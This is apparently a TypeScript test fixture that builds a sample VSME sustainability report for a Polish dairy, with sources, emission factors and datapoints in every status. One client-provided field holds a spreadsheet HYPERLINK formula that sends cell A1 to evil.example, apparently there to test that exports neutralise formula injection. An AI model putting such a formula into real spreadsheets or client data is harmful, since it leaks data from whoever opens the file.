import type { Source, VsmeCompletenessCount, VsmeReport, VsmeValue } from '@impact/contracts';
import { vsmeStandard } from '@impact/knowledge';

/** The uploaded financial statements: cited by file name, never by an address. */
export const STATEMENTS: Source = {
  kind: 'uploaded-document',
  documentId: 'k3m9x2p7q1w8e5r4t6y0u2i9',
  url: null,
  title: 'Sprawozdanie finansowe 2025 – Zakład Mleczarski.pdf',
  retrievedAt: '2026-10-14',
  locator: { headingPath: ['Rachunek zysków i strat'], page: 7 },
  quote: 'Przychody netto ze sprzedaży wyniosły 18,4 mln EUR (2024: 17,1 mln EUR).',
};

export const ENERGY_PAGE: Source = {
  kind: 'web-page',
  url: 'https://www.mleczarnia-lodz.example/zrownowazony-rozwoj',
  title: 'Zrównoważony rozwój – energia',
  retrievedAt: '2026-10-02T08:15:00Z',
  quote: 'W 2025 r. zużyliśmy łącznie 2 450 MWh energii, w tym 410 MWh z paneli fotowoltaicznych.',
};

/** A source only an omitted value cites: its quote must never reach an export. */
export const SENSITIVE_SOURCE: Source = {
  kind: 'document',
  url: 'https://www.mleczarnia-lodz.example/postepowanie-2025.pdf',
  title: 'Postępowanie sądowe 2025',
  retrievedAt: '2026-10-02',
  quote: 'Grzywna w wysokości 250 000 zł nałożona przez Sąd Okręgowy.',
};

export const GAS_FACTOR = {
  name: 'Natural gas, gross calorific value',
  value: 0.18296,
  unit: 'tCO2e/MWh',
  country: null,
  year: 2025,
  dataset: 'UK Government GHG Conversion Factors for Company Reporting 2025',
  url: 'https://www.gov.uk/government/publications/greenhouse-gas-reporting-conversion-factors-2025',
};

export const GRID_FACTOR = {
  name: 'Electricity grid, location-based',
  value: 0.662,
  unit: 'tCO2e/MWh',
  country: 'PL',
  year: 2024,
  dataset: 'KOBiZE: emission factors for electricity 2024',
  url: null,
};

const consultant = { kind: 'user' as const, userId: 7, name: 'Ewa Nowak' };

function value(datapointId: string, fields: Partial<VsmeValue> = {}): VsmeValue {
  return {
    datapointId,
    status: 'missing',
    value: null,
    unit: null,
    periodYear: null,
    sources: [],
    method: null,
    notApplicableReason: null,
    omissionStatement: null,
    review: null,
    pendingClientAnswer: null,
    previous: null,
    note: null,
    updatedAt: '2026-11-20T10:00:00.000Z',
    updatedBy: consultant,
    ...fields,
  };
}

const entered = (id: string, content: VsmeValue['value'], fields: Partial<VsmeValue> = {}) =>
  value(id, { status: 'entered', value: content, periodYear: 2025, ...fields });

/**
 * The values that are not missing, one of every status and kind: found with an uploaded document and a web
 * page, estimates accepted, pending and returned (with factors), a client's answer, a table, a stored and a
 * derived 'not applicable', omissions with and without their own statement, Polish, Czech and German text,
 * and one formula a spreadsheet would run.
 */
const VALUES: VsmeValue[] = [
  entered('BasisForPreparation', 'Option B (Basic Module and Comprehensive Module)'),
  entered('BasisForReporting', 'Individual'),
  entered('ListOfOmittedDisclosuresDeemedToBeClassifiedOrSensitiveInformation', [
    'B11 - Convictions and fines for corruption and bribery',
  ]),
  value('Turnover', {
    status: 'found',
    value: 18_400_000,
    unit: 'EUR',
    periodYear: 2025,
    sources: [STATEMENTS],
    method: { kind: 'evidence-metric', description: 'Net revenue from the 2025 income statement' },
  }),
  value('NumberOfEmployees', {
    status: 'client-provided',
    value: 120,
    unit: 'headcount',
    periodYear: 2025,
    review: 'accepted',
    method: { kind: 'client', description: '' },
    updatedBy: { kind: 'data-request', requestDocumentId: 'req0000000000000000000001' },
  }),
  entered('HasSustainabilityCertificationsOrLabels', false),
  value('ListOfSitesTable', {
    status: 'found',
    periodYear: 2025,
    sources: [STATEMENTS],
    value: [
      {
        row: 'Zakład Łódź',
        cells: {
          AddressOfSite: 'ul. Źródłowa 12',
          PostalCodeOfSite: '91-735',
          CityOfSite: 'Łódź',
          CountryOfSite: 'PL',
        },
      },
      {
        row: 'Sklad Brno',
        cells: {
          AddressOfSite: 'Příkop 843/4',
          CityOfSite: 'Brno',
          CountryOfSite: 'CZ',
          GPSLocationOfSite: null,
        },
      },
    ],
  }),
  value('TotalEnergyConsumption', {
    status: 'found',
    value: 2450,
    unit: 'MWh',
    periodYear: 2025,
    sources: [ENERGY_PAGE],
    method: { kind: 'evidence-metric', description: 'Stated on the company’s sustainability page' },
  }),
  entered('HasEnergyBreakdownInformation', true),
  value('BreakdownOfEnergyConsumptionTable', {
    status: 'found',
    periodYear: 2025,
    sources: [ENERGY_PAGE],
    value: [
      { row: 'Renewable energy', cells: { EnergyConsumptionFromSelfGeneratedElectricity: 410 } },
      {
        row: 'Non-renewable energy',
        cells: { EnergyConsumptionFromElectricity: 0, EnergyConsumptionFromFuels: 2040 },
      },
    ],
  }),
  value('GrossScope1GreenhouseGasEmissions', {
    status: 'estimated',
    value: 373.24,
    unit: 'tCO2e',
    periodYear: 2025,
    review: 'pending',
    sources: [ENERGY_PAGE],
    method: {
      kind: 'estimate',
      description: 'Scope 1 from 2,040 MWh of natural gas × 0.18296 tCO2e/MWh',
      factors: [GAS_FACTOR],
    },
  }),
  value('GrossLocationBasedScope2GreenhouseGasEmissions', {
    status: 'estimated',
    value: 0,
    unit: 'tCO2e',
    periodYear: 2025,
    review: 'accepted',
    method: {
      kind: 'estimate',
      description: 'No grid electricity bought: 0 MWh × 0.662 tCO2e/MWh',
      factors: [GRID_FACTOR],
    },
  }),
  value('GrossMarketBasedScope2GreenhouseGasEmissions', {
    status: 'estimated',
    value: 981.5,
    unit: 'tCO2e',
    periodYear: 2025,
    review: 'returned',
    method: { kind: 'estimate', description: 'Wrong supplier mix', factors: [GRID_FACTOR] },
  }),
  entered('DisclosesScope3Emissions', false),
  entered('ReportsPollutantEmissionsAlready', false),
  value('TotalAmountOfWaterWithdrawnFromAllSites', {
    status: 'found',
    value: 18_250.5,
    unit: 'm3',
    periodYear: 2025,
    sources: [STATEMENTS, ENERGY_PAGE],
  }),
  entered('UndertakingAppliesCircularEconomyPrinciples', true),
  entered(
    'DescriptionOfHowCircularEconomyPrinciplesAreApplied',
    'Příliš žluťoučký kůň úpěl ďábelské ódy: obaly se vracejí dodavateli.\nMehrwegkisten in Größe M für Kunden in Österreich.',
    { note: 'Opis zatwierdzony przez zarząd (Łódź).' },
  ),
  entered('NumberOfPermanentContractEmployees', 104),
  entered('NumberOfTemporaryContractEmployees', 16),
  value('HasConvictionsOrFinesForCorruptionOrBribery', { status: 'omitted' }),
  value('TotalNumberOfConvictionsForTheViolationOfAntiCorruptionAndAntiBriberyLaws', {
    status: 'omitted',
    sources: [SENSITIVE_SOURCE],
    method: { kind: 'evidence-metric', description: 'Court ruling of 2025' },
  }),
  value('TotalAmountOfFinesForTheViolationOfAnticorruptionAndAntibriberyLaws', {
    status: 'omitted',
    omissionStatement: 'Fines are omitted as classified information while proceedings in Łódź are pending.',
    sources: [SENSITIVE_SOURCE],
  }),
  value('DescriptionOfSignificantGroupsOfProductsAndOrServicesOffered', {
    status: 'client-provided',
    value: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    review: 'pending',
    periodYear: 2025,
    method: { kind: 'client', description: 'Answered in the data request' },
  }),
  entered('HasGhgReductionTargets', true),
  entered('GreenhouseGasEmissionReductionTargetsTable', [
    { row: 'Baseline year', cells: { GrossScope1GreenhouseGasEmissions: 420 } },
    { row: 'Target year', cells: { GrossScope1GreenhouseGasEmissions: 210 } },
  ]),
  value('FemaleToMaleRatioAtManagementLevelForTheReportingPeriod', {
    status: 'not-applicable',
    notApplicableReason: 'The owner is the only manager.',
  }),
  value('HasGovernanceBody', { status: 'found', value: false, periodYear: 2025, sources: [STATEMENTS] }),
];

function count(values: readonly VsmeValue[]): VsmeCompletenessCount {
  const applicable = values.filter((item) => item.status !== 'not-applicable');
  const missing = applicable.filter((item) => item.status === 'missing').length;
  return {
    applicable: applicable.length,
    answered: applicable.length - missing,
    missing,
    awaitingReview: values.filter((item) => item.review === 'pending').length,
  };
}

/** A Basic & Comprehensive report for a Polish dairy: every datapoint of the standard, in its order. */
export function fixtureVsmeReport(): VsmeReport {
  const standard = vsmeStandard('vsme-recommendation-2025');
  const given = new Map(VALUES.map((item) => [item.datapointId, item]));
  const values = standard.datapoints.map((datapoint) => given.get(datapoint.id) ?? value(datapoint.id));
  const of = (predicate: (code: string) => boolean) =>
    values.filter((item) =>
      predicate(standard.datapoints.find((d) => d.id === item.datapointId)?.disclosure ?? ''),
    );
  return {
    id: 41,
    documentId: 'vsmerep0000000000000001',
    client: { documentId: 'client00000000000000001', Name: 'Zakład Mleczarski Łódź Sp. z o.o.' },
    versionId: 'vsme-recommendation-2025',
    module: 'basic-comprehensive',
    periodStart: '2025-01-01',
    periodEnd: '2025-12-31',
    previousReportDocumentId: null,
    completeness: {
      overall: count(values),
      modules: {
        basic: count(of((code) => code.startsWith('B'))),
        comprehensive: count(of((code) => code.startsWith('C'))),
      },
      disclosures: standard.disclosures.map((disclosure) => ({
        code: disclosure.code,
        ...count(of((code) => code === disclosure.code)),
      })),
    },
    createdAt: '2026-11-01T09:00:00.000Z',
    updatedAt: '2026-11-20T10:00:00.000Z',
    values,
  };
}

/** The fixture with some values replaced or added (each keeps the standard's order). */
export function withValues(report: VsmeReport, replacements: readonly VsmeValue[]): VsmeReport {
  const byId = new Map(replacements.map((item) => [item.datapointId, item]));
  return { ...report, values: report.values.map((item) => byId.get(item.datapointId) ?? item) };
}

export { value as vsmeValue };
